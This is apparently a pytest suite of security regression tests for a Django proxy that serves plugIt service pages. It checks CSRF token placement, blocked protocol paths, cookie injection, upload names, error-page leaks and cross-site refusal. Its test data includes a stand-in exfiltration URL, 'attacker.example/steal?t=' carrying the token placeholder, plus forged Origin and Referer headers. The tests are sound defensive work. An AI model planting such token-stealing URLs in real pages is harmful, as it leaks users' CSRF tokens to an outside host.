"""Issue 15, the page pipeline's findings: each test is what an attacker or a visitor sees.

The CSRF token only where the template put it, proxy mode refusing the service's protocol
paths, session values unable to add cookies, upload names kept, malformed input answered
400 and unreadable answers 502, error pages without internal addresses, and the standalone
switchers refusing cross-site requests.
"""

from __future__ import annotations

import re
import socket
from collections.abc import AsyncIterator, Iterator

import httpx
import pytest
from django.test import override_settings

from plugit.protocol import CSRF_TOKEN_PLACEHOLDER
from plugit.testing import LiveServer

from .conftest import ProxyFactory
from .hostile_services import (
    COOKIE_SHAPED,
    LEAKY_IMAGE,
    LEAKY_TITLE,
    ProxiedRecorder,
    build_hostile_service,
    deep_json_service,
    hanging_up_service,
    long_tag_service,
)

TOKEN = re.compile(r"[A-Za-z0-9]{64}")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    # h11: uvicorn's httptools writer lower-cases answer header names (SetSession keys).
    root = str(tmp_path_factory.mktemp("hostile"))
    with LiveServer(build_hostile_service(root), http="h11") as server:
        yield server


@pytest.fixture(scope="module")
def recorder() -> Iterator[tuple[ProxiedRecorder, str]]:
    recording = ProxiedRecorder()
    with LiveServer(recording) as server:
        yield recording, server.url + "/svc/"


async def open_proxy(proxy_factory: ProxyFactory, url: str, **project: object) -> httpx.AsyncClient:
    handle = proxy_factory(url, live=True, **project)
    return handle.client


def tokens_in(html: str) -> list[str]:
    return TOKEN.findall(html)


def form_token(html: str) -> str:
    found = re.search(r'name="csrfmiddlewaretoken"\s+value="([^"]*)"', html)
    assert found, html
    return found.group(1)


# -- Medium 4: the CSRF token only where the template put it ----------------------------------


@pytest.mark.parametrize("route", ["poll", "cached_poll"])
async def test_placeholder_in_data_never_becomes_the_token(
    proxy_factory: ProxyFactory, hostile: LiveServer, route: str
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    for _ in range(2):  # the second cached_poll comes from the page cache
        response = await client.get(f"/plugIt/{route}")
        assert response.status_code == 200
        html = response.text
        token = form_token(html)
        assert TOKEN.fullmatch(token)
        assert f'<h1 id="title">{LEAKY_TITLE}</h1>' in html
        assert f'<img id="img" src="{LEAKY_IMAGE}">' in html
        assert f'var token = "{token}";' in html  # {{ csrf_token }} in the template
        assert html.count(token) == 2
        assert "attacker.example/steal?t=" + CSRF_TOKEN_PLACEHOLDER in html
        vote = await client.post("/plugIt/vote", data={"csrfmiddlewaretoken": token})
        assert vote.status_code == 200
        assert "voted" in vote.text


@pytest.mark.parametrize("route", ["leaky", "leaky_bare"])
async def test_proxy_mode_puts_the_token_only_in_fields_and_meta_tags(
    proxy_factory: ProxyFactory, recorder: tuple[ProxiedRecorder, str], route: str
) -> None:
    client = await open_proxy(proxy_factory, recorder[1], proxy_mode=True)
    response = await client.get(f"/plugIt/{route}")
    assert response.status_code == 200
    html = response.text
    token = form_token(html)
    assert TOKEN.fullmatch(token)
    assert f'<meta name="csrf-token" content="{token}">' in html
    assert html.count(token) == 2
    assert f'<h1 id="title">{CSRF_TOKEN_PLACEHOLDER}</h1>' in html
    assert f'src="https://attacker.example/steal?t={CSRF_TOKEN_PLACEHOLDER}"' in html
    assert f'href="/x?t={CSRF_TOKEN_PLACEHOLDER}"' in html
    assert f'var t = "{CSRF_TOKEN_PLACEHOLDER}";' in html


async def test_token_fill_holds_a_field_cut_at_any_byte() -> None:
    from plugit_proxy.pipeline.tokenfill import fill_token_stream

    field = f'<INPUT name="csrfmiddlewaretoken" value="{CSRF_TOKEN_PLACEHOLDER}" type=hidden>'
    page = f"<p>{CSRF_TOKEN_PLACEHOLDER}</p>{field}<meta content='{CSRF_TOKEN_PLACEHOLDER}'>"
    body = page.encode()
    expected = page.replace(f'"{CSRF_TOKEN_PLACEHOLDER}"', '"T"').replace(
        f"'{CSRF_TOKEN_PLACEHOLDER}'", "'T'"
    )
    for cut in range(len(body) + 1):

        async def chunks(cut: int = cut) -> AsyncIterator[bytes]:
            yield body[:cut]
            yield body[cut:]

        filled = b"".join([part async for part in fill_token_stream(chunks(), "T")])
        assert filled.decode() == expected, cut


# -- Medium 6: proxy mode keeps the service's protocol paths to itself --------------------------

PROTOCOL_PATHS = [
    ("GET", "ping"),
    ("GET", "version"),
    ("GET", "meta/"),
    ("GET", "meta/page"),
    ("GET", "template/page"),
    ("GET", "action/page"),
    ("POST", "action/page"),
    ("POST", "mail"),
    ("POST", "mail/"),
    ("GET", "/meta/page"),  # //meta/page: the leading slashes would be dropped
    ("GET", "%6Deta/page"),  # percent-encoded
    ("GET", "Action/page"),
]


async def test_proxy_mode_refuses_the_protocol_paths(
    proxy_factory: ProxyFactory, recorder: tuple[ProxiedRecorder, str]
) -> None:
    recording, url = recorder
    client = await open_proxy(proxy_factory, url, proxy_mode=True)
    token = form_token((await client.get("/plugIt/leaky")).text)
    recording.paths.clear()
    for method, path in PROTOCOL_PATHS:
        data = {"csrfmiddlewaretoken": token, "response_id": "1", "message": "forged"}
        response = await client.request(
            method, "/plugIt/" + path, data=data if method == "POST" else None
        )
        assert response.status_code == 404, (method, path)
        assert "plugit-header" in response.text
    assert recording.paths == []
    for path in ("page", "mailbox", "pings", "deep/meta/x"):
        response = await client.get("/plugIt/" + path)
        assert response.status_code == 200
        assert f"<p id='seen'>GET /svc/{path}</p>" in response.text


# -- Low: session values add no cookies; keys keep their case ----------------------------------


async def test_session_values_cannot_add_cookies_and_keys_keep_their_case(
    proxy_factory: ProxyFactory, hostile: LiveServer
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    assert (await client.get("/plugIt/store")).json() == {"stored": True}
    seen = (await client.get("/plugIt/read")).json()
    assert seen["session"] == COOKIE_SHAPED
    assert "admin" not in seen["cookies"]
    assert "y" not in seen["cookies"]
    assert seen["cookies"]["UserId"] == "42"
    assert seen["cookies"]["Plain"] == "blue"


# -- Low: upload names reach the service as the browser sent them ------------------------------


@pytest.mark.parametrize("name", ["résumé 1.pdf", "back\\slash & co.txt", "日本語.txt"])
async def test_upload_names_reach_the_service_unchanged(
    proxy_factory: ProxyFactory, hostile: LiveServer, name: str
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    token = form_token((await client.get("/plugIt/poll")).text)
    response = await client.post(
        "/plugIt/upload",
        data={"csrfmiddlewaretoken": token, "légende": "été"},
        files={"pièce": (name, b"%PDF-1.4", "application/pdf")},
    )
    assert response.status_code == 200
    seen = response.json()
    assert seen["files"] == {"pièce": name}
    assert seen["form"]["légende"] == "été"


# -- Low: malformed bodies are the browser's 400, unreadable answers the service's 502 --------


async def form_headers(client: httpx.AsyncClient, page: str, content_type: str) -> dict[str, str]:
    token = form_token((await client.get(page)).text)
    return {"Content-Type": content_type, "X-CSRFToken": token}


BAD_BODIES = [
    ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: form-data\r\n\r\nx"),
    ("multipart/form-data", b"--xyz\r\n\r\n"),  # no boundary
    ("multipart/form-data; boundary=xyz", b"garbage without any boundary"),
    ("application/x-www-form-urlencoded", "légende=été".encode("latin-1")),
    ("application/x-www-form-urlencoded", b"name=%E9t%E9"),
]


@pytest.mark.parametrize(("content_type", "body"), BAD_BODIES)
@pytest.mark.parametrize("proxy_mode", [False, True])
async def test_malformed_form_bodies_are_a_400_page(
    proxy_factory: ProxyFactory,
    hostile: LiveServer,
    recorder: tuple[ProxiedRecorder, str],
    content_type: str,
    body: bytes,
    proxy_mode: bool,
) -> None:
    url = recorder[1] if proxy_mode else hostile.url
    client = await open_proxy(proxy_factory, url, proxy_mode=proxy_mode)
    headers = await form_headers(
        client, "/plugIt/leaky" if proxy_mode else "/plugIt/poll", content_type
    )
    # Without the header, the form is read for its token; in proxy mode, with the header, the
    # body goes to the service untouched (it is the service's to read).
    sent_headers = [{"Content-Type": content_type}] + ([] if proxy_mode else [headers])
    for sent in sent_headers:
        response = await client.post("/plugIt/vote", content=body, headers=sent)
        assert response.status_code == 400, response.text
        assert "plugit-header" in response.text
        assert "The form could not be read" in response.text


async def test_json_nested_too_deep_is_a_502_page(proxy_factory: ProxyFactory) -> None:
    with LiveServer(deep_json_service()) as service:
        client = await open_proxy(proxy_factory, service.url)
        response = await client.get("/plugIt/deep")
        assert response.status_code == 502
        assert "the service&#x27;s answer could not be read" in response.text.lower()


async def test_a_template_tag_of_any_length_makes_a_valid_cache_key(
    proxy_factory: ProxyFactory,
) -> None:
    with LiveServer(long_tag_service()) as service:
        client = await open_proxy(proxy_factory, service.url)
        response = await client.get("/plugIt/page")
        assert response.status_code == 200
        assert "<p id='word'>fine</p>" in response.text


# -- Low: error pages keep the service's address to the log -------------------------------------


def closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


async def test_error_pages_do_not_show_the_service_address(
    proxy_factory: ProxyFactory, caplog: pytest.LogCaptureFixture
) -> None:
    port = closed_port()
    unreachable = await open_proxy(proxy_factory, f"http://127.0.0.1:{port}/svc/")
    response = await unreachable.get("/plugIt/page")
    assert response.status_code == 502
    assert "The service could not be reached." in response.text
    assert "127.0.0.1" not in response.text
    assert f":{port}" not in response.text
    assert f"127.0.0.1:{port}" in caplog.text  # the operator still sees where
    with LiveServer(hanging_up_service()) as service:
        hung_up = await open_proxy(proxy_factory, service.url)
        response = await hung_up.get("/plugIt/page")
        assert response.status_code == 502
        assert "127.0.0.1" not in response.text
        assert f":{service.port}" not in response.text


async def test_debug_alone_does_not_show_the_detail(proxy_factory: ProxyFactory) -> None:
    # PLUGIT_DEBUG is also the services' switch: only development mode shows the detail
    # (tests/proxy/test_error_details.py).
    port = closed_port()
    client = await open_proxy(proxy_factory, f"http://127.0.0.1:{port}/svc/")
    with override_settings(DEBUG=True):
        response = await client.get("/plugIt/page")
    assert response.status_code == 502
    assert f":{port}" not in response.text


# -- Low: the standalone switchers refuse cross-site requests -----------------------------------

CROSS_SITE = [
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},  # another project's origin on the same domain
    {"Origin": "https://attacker.example"},
    {"Origin": "null"},
    {"Referer": "https://attacker.example/page"},
]


@pytest.mark.parametrize("headers", CROSS_SITE)
async def test_switchers_refuse_cross_site_requests(
    proxy_factory: ProxyFactory, hostile: LiveServer, headers: dict[str, str]
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    for switch in ("ebuio_setUser?mode=adm", "ebuio_setOrga?pk=-4&name=CNN&codops=uscnn"):
        response = await client.get("/plugIt/" + switch, headers=headers)
        assert response.status_code == 403
        assert "only be used from this site" in response.text
    page = (await client.get("/plugIt/poll")).text
    assert "CNN" not in page.split("dropdown-toggle", 1)[1].split("</button>", 1)[0]
    assert "Not signed in" in page


async def test_switchers_follow_links_of_the_proxys_own_pages(
    proxy_factory: ProxyFactory, hostile: LiveServer
) -> None:
    client = await open_proxy(proxy_factory, hostile.url)
    own = str(client.base_url)
    for headers in (
        {"Sec-Fetch-Site": "same-origin", "Referer": own + "/plugIt/poll"},
        {"Sec-Fetch-Site": "none"},
        {"Referer": own + "/plugIt/poll"},
        {},
    ):
        response = await client.get("/plugIt/ebuio_setUser?mode=adm", headers=headers)
        assert response.status_code == 302, headers
    response = await client.get(
        "/plugIt/ebuio_setOrga?pk=-4&name=CNN&codops=uscnn", headers={"Origin": own}
    )
    assert response.status_code == 302
    page = (await client.get("/plugIt/poll")).text
    assert "CNN" in page.split("dropdown-toggle", 1)[1].split("</button>", 1)[0]
    assert "Signed in as <strong>admin</strong>" in page
